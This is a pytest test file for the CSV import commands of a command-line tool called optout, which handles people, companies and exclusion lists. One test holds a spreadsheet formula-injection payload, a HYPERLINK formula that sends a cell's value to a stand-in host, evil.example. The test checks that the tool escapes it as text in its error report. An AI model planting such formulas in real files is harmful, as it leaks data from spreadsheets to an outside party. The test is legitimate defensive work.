"""`optout import ...`: people, companies and exclusion lists from CSV (R23, R34)."""

from __future__ import annotations

import csv
import itertools
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from optout.db import tables as t
from tests.cli.conftest import STEPS, Cli

PEOPLE_CSV = """Email,First Name,Title,Status,Company,Lead Source
ann@acme.com,Ann,CTO,Exclude,acme.com,webinar
bob@globex.io,Bob,VP Sales,Open,globex.io,inbound
cat@globex.io,Cat,Engineer,Open,globex.io,
"""
PEOPLE_MAP = (
    "--map",
    "Email=email",
    "--map",
    "First Name=first_name",
    "--map",
    "Title=title",
    "--map",
    "Status=status",
    "--map",
    "Company=company_domain",
    "--map",
    "Lead Source=fields.lead_source",
)


def _people_count(cli: Cli) -> int:
    return int(cli.scalar(sa.select(sa.func.count()).select_from(t.people)))


def test_R23_cli_import_people_then_exclude_by_status(cli: Cli, tmp_path: Path) -> None:
    with cli.seed() as world:
        world.sequence("Outbound", steps=STEPS)
    source = tmp_path / "people.csv"
    source.write_text(PEOPLE_CSV, encoding="utf-8")
    out = cli.ok("import", "people", str(source), *PEOPLE_MAP).stdout
    assert "Imported people.csv (people)" in out
    report = cli.json("import", "people", str(source), *PEOPLE_MAP)
    # re-importing the same file changes nothing
    assert (report["rows"], report["created"], report["updated"], report["unchanged"]) == (
        3,
        0,
        0,
        3,
    )
    assert report["applied"] is True
    assert _people_count(cli) == 3
    cli.ok(
        "exclusion",
        "add",
        "Status: Exclude",
        "--level",
        "people",
        "--filter",
        "person.status = exclude",
        "--confirm",
    )
    blocked = cli.json("explain", "ann@acme.com", "--sequence", "Outbound")
    assert blocked["primary_reason"]["evidence"]["exclusion"] == "Status: Exclude"
    assert cli.json("explain", "bob@globex.io", "--sequence", "Outbound")["allowed"] is True


def test_R23_cli_import_errors_write_a_report_and_import_nothing(cli: Cli, tmp_path: Path) -> None:
    cli.ok("init")
    source = tmp_path / "leads.csv"
    source.write_text(
        "Email,First Name\nann@acme.com,Ann\nnot-an-email,Bob\n,Nobody\n", encoding="utf-8"
    )
    result = cli.run(
        "import", "people", str(source), "--map", "Email=email", "--map", "First Name=first_name"
    )
    assert result.exit_code == 2
    report = tmp_path / "leads.errors.csv"
    assert result.stderr == (
        f"error: 2 row(s) of leads.csv cannot be used; nothing was imported. "
        f"Error report: {report}\n"
    )
    rows = list(csv.DictReader(report.open(encoding="utf-8")))
    assert [r["row"] for r in rows] == ["3", "4"]
    assert rows[0]["value"] == "not-an-email"
    assert all(r["reason"] for r in rows)
    assert _people_count(cli) == 0

    elsewhere = tmp_path / "out" / "problems.csv"
    elsewhere.parent.mkdir()
    again = cli.run(
        "import",
        "people",
        str(source),
        "--map",
        "Email=email",
        "--errors",
        str(elsewhere),
        "--json",
    )
    assert again.exit_code == 2
    assert '"error_count": 2' in again.stdout
    assert elsewhere.exists()


def test_R34_cli_import_bad_mapping_or_file_is_exit_2(cli: Cli, tmp_path: Path) -> None:
    cli.ok("init")
    source = tmp_path / "people.csv"
    source.write_text(PEOPLE_CSV, encoding="utf-8")
    pair = cli.run("import", "people", str(source), "--map", "Email")
    assert pair.exit_code == 2
    assert pair.stderr.startswith("error: mapping 'Email': write Column=field")
    field = cli.run("import", "people", str(source), "--map", "Email=shoe_size")
    assert field.exit_code == 2
    assert "shoe_size" in field.stderr
    column = cli.run("import", "people", str(source), "--map", "Mail=email")
    assert column.exit_code == 2
    assert "Mail" in column.stderr
    missing = cli.run("import", "people", str(tmp_path / "nope.csv"), "--map", "Email=email")
    assert missing.exit_code == 2
    empty = tmp_path / "empty.csv"
    empty.write_text("", encoding="utf-8")
    assert cli.run("import", "people", str(empty), "--map", "Email=email").exit_code == 2


def test_R12_cli_import_companies_with_parents(cli: Cli, tmp_path: Path) -> None:
    cli.ok("init")
    source = tmp_path / "accounts.csv"
    source.write_text(
        "Domain,Name,Parent\nglobex.com,Globex,\ninitech.net,Initech,globex.com\n",
        encoding="utf-8",
    )
    report = cli.json(
        "import",
        "companies",
        str(source),
        "--map",
        "Domain=domain",
        "--map",
        "Name=name",
        "--map",
        "Parent=parent_domain",
    )
    assert report["created"] == 2
    c = t.companies
    parent = cli.scalar(sa.select(c.c.parent_id).where(c.c.domain == "initech.net"))
    assert parent == cli.scalar(sa.select(c.c.id).where(c.c.domain == "globex.com"))


def test_R23_cli_import_exclusion_list(cli: Cli, tmp_path: Path) -> None:
    with cli.seed() as world:
        for i in range(9):
            world.person(f"p{i}@globex.io", company="globex.io")
        world.person("ann@acme.com", company="acme.com")
    source = tmp_path / "customers.csv"
    source.write_text("Domain\nhttps://www.Acme.com/\ninitech.net\n", encoding="utf-8")
    args = [
        "import",
        "exclusion-list",
        str(source),
        "--column",
        "Domain",
        "--exclusion",
        "Customers",
        "--level",
        "company",
    ]
    report = cli.json(*args)
    assert (report["created"], report["unchanged"]) == (2, 0)
    shown = cli.json("exclusion", "show", "Customers")
    assert shown["exclusion"]["filter"] == "company.domain in (acme.com, initech.net)"
    assert cli.json(*args)["unchanged"] == 2  # re-import: nothing new

    bad = tmp_path / "bad.csv"
    bad.write_text("Domain\nedu\nglobex.io\n", encoding="utf-8")
    result = cli.run(*[str(bad) if a == str(source) else a for a in args])
    assert result.exit_code == 2
    assert (tmp_path / "bad.errors.csv").exists()
    assert cli.json("exclusion", "show", "Customers")["exclusion"]["filter"].count(",") == 1

    mass = tmp_path / "mass.csv"
    mass.write_text("Domain\nglobex.io\n", encoding="utf-8")
    mass_args = [
        "import",
        "exclusion-list",
        str(mass),
        "--column",
        "Domain",
        "--exclusion",
        "Globex",
        "--level",
        "company",
    ]
    refused = cli.run(*mass_args)
    assert refused.exit_code == 2
    assert "re-run with --confirm" in refused.stderr
    assert cli.json(*mass_args, "--confirm")["created"] == 1


def test_R23_cli_import_error_report_writes_a_formula_value_as_text(
    cli: Cli, tmp_path: Path
) -> None:
    cli.ok("init")
    source = tmp_path / "leads.csv"
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    with source.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows([["Email"], [attack], ["@SUM(1+1)"]])
    result = cli.run("import", "people", str(source), "--map", "Email=email")
    assert result.exit_code == 2
    rows = list(csv.DictReader((tmp_path / "leads.errors.csv").open(encoding="utf-8")))
    assert [r["value"] for r in rows] == [f"'{attack}", "'@SUM(1+1)"]


def test_R23_cli_people_import_commits_part_by_part_and_reports_the_whole_file(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A large file never holds the write lock for its whole length: after every row is
    checked, it is applied in parts, each committed on its own; the report and the one
    import event still speak of the whole file."""
    from optout.services.imports import people_files

    with cli.seed():
        pass
    apply = people_files.apply_people_part
    monkeypatch.setattr(people_files, "CHUNK_ROWS", 2)
    monkeypatch.setattr(people_files, "MIN_PART_ROWS", 1)
    applied: list[tuple[int, int, sa.RootTransaction]] = []

    def recorded(db: sa.Connection, **kw: Any) -> people_files.Applied:
        transaction = db.get_transaction()
        assert transaction is not None
        applied.append((kw["start"], kw["stop"], transaction))  # kept, so no id is reused
        return apply(db, **kw)

    monkeypatch.setattr(people_files, "apply_people_part", recorded)
    source = tmp_path / "people.csv"
    rows = [f"p{i}@parts.example,P{i}" for i in range(5)]
    source.write_text("Email,First Name\n" + "\n".join(rows) + "\n", encoding="utf-8")
    report = cli.json(
        "import", "people", str(source), "--map", "Email=email", "--map", "First Name=first_name"
    )
    bounds = [(start, stop) for start, stop, _ in applied]
    assert bounds[0][0] == 0
    assert bounds[-1][1] == 5
    assert all(a[1] == b[0] for a, b in itertools.pairwise(bounds))  # contiguous
    assert all(stop - start <= 2 for start, stop in bounds)
    assert len({id(transaction) for _, _, transaction in applied}) == len(bounds) >= 3
    assert (report["rows"], report["created"], report["applied"]) == (5, 5, True)
    assert _people_count(cli) == 5
    events = cli.scalar(sa.select(sa.func.count()).where(t.events.c.kind == "import_applied"))
    assert events == 1
